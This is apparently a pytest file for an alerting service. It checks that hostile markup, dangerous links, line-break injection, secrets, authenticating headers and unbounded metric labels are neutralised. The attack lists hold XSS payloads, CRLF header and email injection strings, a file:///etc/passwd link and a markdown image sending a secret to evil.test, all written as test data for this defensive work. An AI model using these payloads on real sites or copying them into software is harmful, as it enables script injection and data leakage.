"""D18, D20 to D23: what strangers' text becomes on a page, in a ticket, in a log and in a metric."""

from __future__ import annotations

import json
import re

import httpx
import pytest
import structlog
from prometheus_client import generate_latest

from app.auth.rules import Role
from app.core.redaction import SECRET, remove_secrets
from app.enhancement.rules.redaction import Redactor
from app.enhancement.rules.render import shown
from app.ingest.rules.values import one_line, safe_link
from app.main import create_app
from app.observability.logging import _render, _scrub
from app.observability.metrics import FORBIDDEN_LABELS, REGISTRY, UnboundedLabel, counter
from app.settings import Settings
from tests.attacks.pipeline import Pipeline
from tests.attacks.target import Target
from tests.factories.access import make_tokens
from tests.factories.ingest import alert_body

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><iframe src='javascript:alert(1)'>",
    "</div></ul><h1>owned</h1>",
    "[click](javascript:alert(1))",
    "![x](https://evil.test/?q=secret)",
    "<!channel> <@U123> @everyone",
    "&lt;script&gt;",
    "subject\r\nBcc: victim@example.test",
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.test",
    "http://",
    "http://[",
    "https://good.test/\r\nSet-Cookie: a=b",
    "https://good.test/\u202egnp",
    "blob:https://x",
]


@pytest.mark.attack("D18")
@pytest.mark.parametrize("index", range(len(LINKS)))
async def test_a_link_that_is_none(pipeline: Pipeline, index: int) -> None:
    assert safe_link("Query", LINKS[index]) is None
    source = await pipeline.source_of(kind="alertmanager")
    annotations = {"runbook_url": LINKS[index], "dashboard_url": LINKS[index]}
    alert = {"labels": {"alertname": "x"}, "generatorURL": LINKS[index], "annotations": annotations}
    body = {"version": "4", "groupKey": "k", "externalURL": LINKS[index], "alerts": [alert]}
    assert (await pipeline.take(source, body)).outcomes == {"opened": 1}
    [row] = await pipeline.rows("select links from alerts")
    assert row["links"] == []


@pytest.mark.attack("D18", "D20")
@pytest.mark.parametrize("index", range(len(HOSTILE)))
def test_a_note_in_a_ticket_holds_no_markup_of_a_stranger(index: int) -> None:
    written = shown(HOSTILE[index], limit=500)
    assert "<" not in written
    assert ">" not in written
    assert "\n" not in written
    assert "\r" not in written
    assert re.search(r"\b(?:https?|javascript|data):", written) is None, "clickable"


@pytest.mark.attack("D18")
async def test_the_api_answers_data_that_no_browser_renders(api: httpx.AsyncClient, tokens: dict[Role, str]) -> None:
    headers = {"authorization": tokens[Role.ADMIN]}
    body = {"kind": "generic", "name": HOSTILE[0]}
    made = await api.post("/v1/sources", json=body, headers=headers)
    missing = await api.get(f"/v1/runbooks/{HOSTILE[0]}", headers=headers)
    for answer in (made, missing, await api.get("/v1/sources", headers=headers), await api.get("/nowhere<script>")):
        assert answer.headers["content-type"].split(";")[0] in ("application/json", "application/problem+json")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"].startswith("default-src 'none'")
        assert answer.headers["x-frame-options"] == "DENY"


@pytest.mark.attack("D20")
@pytest.mark.parametrize("text", ["a\r\nBcc: x@y.test", "a\nX-Header: 1", "a\u2028b", "a\x0bb", "a\x85b", "a\x00b"])
async def test_a_title_is_one_line_wherever_it_goes(pipeline: Pipeline, text: str) -> None:
    assert one_line(text).isprintable()
    await pipeline.take(await pipeline.source_of(), {"id": "1", "title": text})
    for row in await pipeline.rows("select title from alerts union all select title from incidents"):
        assert row["title"].isprintable()


SECRETS = {
    "password": "password=hunter2hunter2",
    "json": '{"api_key": "4f9a2b7c8d1e6f3a"}',
    "aws": "AKIAIOSFODNN7EXAMPLE",
    "bearer": "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcDEF123456",
    "github": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "url": "postgres://app:s3cretpass@db-1/x",
    "key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\n-----END PRIVATE KEY-----",
    "query": "https://x.test/cb?token=abcdef123456&y=1",
    "ours": "tcs_" + "a1B2" * 12,
    "hook": "https://hooks.slack.com/services/T0/B0/abcdefghij",
}
NEEDLES = {
    "password": "hunter2",
    "json": "4f9a2b7c8d1e6f3a",
    "aws": "AKIAIOSFODNN7EXAMPLE",
    "bearer": "eyJzdWIiOiIxIn0",
    "github": "ghp_abcdef",
    "url": "s3cretpass",
    "key": "MIIEvQ",
    "query": "abcdef123456",
    "ours": "a1B2a1B2",
    "hook": "abcdefghij",
}


@pytest.mark.attack("D21")
@pytest.mark.parametrize("kind", sorted(SECRETS))
def test_a_secret_in_a_ticket_reaches_neither_model_nor_note(kind: str) -> None:
    text = f"It failed with {SECRETS[kind]} at noon"
    assert NEEDLES[kind] not in remove_secrets(text)
    assert NEEDLES[kind] not in Redactor().redact(text)
    assert SECRET in remove_secrets(text)
    assert remove_secrets(remove_secrets(text)) == remove_secrets(text)


@pytest.mark.attack("D21")
@pytest.mark.parametrize("kind", ["password", "bearer", "url"])
def test_a_secret_in_a_log_field_is_hidden_and_the_line_stays_one(kind: str) -> None:
    event = {
        "event": "alert.odd",
        "title": SECRETS[kind] + "\r\n\x1b[2J\u2028next",
        "password": "x",
        "nested": {"token": "y"},
    }
    scrubbed = _scrub(structlog.get_logger(), "info", event)
    line = _render(structlog.get_logger(), "info", dict(scrubbed))
    written = line if isinstance(line, str) else line.decode()
    assert NEEDLES[kind] not in written
    assert len(written.splitlines()) == 1
    assert json.loads(written)["password"] == "[redacted]"
    assert "\x1b" not in written


@pytest.mark.attack("D21")
async def test_the_raw_body_is_not_shown_by_any_list(pipeline: Pipeline) -> None:
    """It is kept as evidence; the API shows its size and what became of it."""
    receipt = await pipeline.take(await pipeline.source_of(), {"id": "1", "title": "x", "note": SECRETS["aws"]})
    application = create_app(pipeline.resources.get(Settings), pipeline.resources)
    token = (await make_tokens(pipeline.resources, pipeline.tenant_id))[Role.ADMIN]
    transport = httpx.ASGITransport(app=application)
    async with httpx.AsyncClient(transport=transport, base_url="http://t", headers={"authorization": token}) as client:
        for path in (
            f"/v1/receipts/{receipt.id}",
            "/v1/deliveries",
            "/v1/jobs",
            "/v1/alerts",
            "/v1/incidents",
            "/v1/audit",
        ):
            answer = await client.get(path)
            assert answer.status_code == 200
            assert NEEDLES["aws"] not in answer.text, path


@pytest.mark.attack("D22")
async def test_headers_that_authenticate_are_not_kept(target: Target) -> None:
    body = alert_body()
    names = ["authorization", "cookie", "x-api-key", "x-auth-token", "proxy-authorization", "x-amz-security-token"]
    names += ["x-gitlab-token", "x-hub-signature", "x-forwarded-access-token", "x-session-id", "x-csrf-token", "apikey"]
    names += ["ocp-apim-subscription-key", "x-functions-key", "x-license-key", "x-key", "x-goog-iap-jwt-assertion"]
    names += ["x-amzn-oidc-data", "x-ms-client-principal"]
    headers = {**target.signed(body), **dict.fromkeys(names, "s3cret"), "x-github-event": "push"}
    assert (await target.post(body, headers)).status_code == 202
    [kept] = await target.deliveries()
    assert "s3cret" not in repr(kept)
    assert "signature" not in " ".join(kept["headers"])
    assert kept["headers"]["x-github-event"] == "push"


@pytest.mark.attack("D23")
async def test_hundreds_of_names_make_no_hundreds_of_series(pipeline: Pipeline) -> None:
    source = await pipeline.source_of()
    # Once, so that every series that this path has exists.
    await pipeline.take(source, {"id": "first", "title": "first"})
    before = {line.rpartition(" ")[0] for line in generate_latest(REGISTRY).decode().splitlines() if line[0] != "#"}
    many = [
        {"id": f"id-{n}", "title": f"alert-{n}", "severity": f"sev-{n}", "labels": {f"l{n}": "v"}} for n in range(150)
    ]
    receipt = await pipeline.take(source, many)
    assert receipt.outcomes == {"opened": 150}
    after = {line.rpartition(" ")[0] for line in generate_latest(REGISTRY).decode().splitlines() if line[0] != "#"}
    assert len(after - before) < 20, sorted(after - before)[:30]
    assert not any("alert-9" in line or "sev-9" in line or str(pipeline.tenant_id) in line for line in after)


@pytest.mark.attack("D23")
async def test_paths_and_methods_of_strangers_make_no_series(api: httpx.AsyncClient) -> None:
    for number in range(50):
        await api.get(f"/v1/nowhere-{number}")
        await api.request(f"BREW{number}", "/v1/me")
    written = generate_latest(REGISTRY).decode()
    assert "nowhere-" not in written
    assert "BREW" not in written


@pytest.mark.attack("D23")
@pytest.mark.parametrize("label", sorted(FORBIDDEN_LABELS))
def test_a_metric_with_an_endless_label_cannot_be_made(label: str) -> None:
    with pytest.raises(UnboundedLabel):
        counter(f"tocsin_attack_{label}_total", "Not made.", (label,))
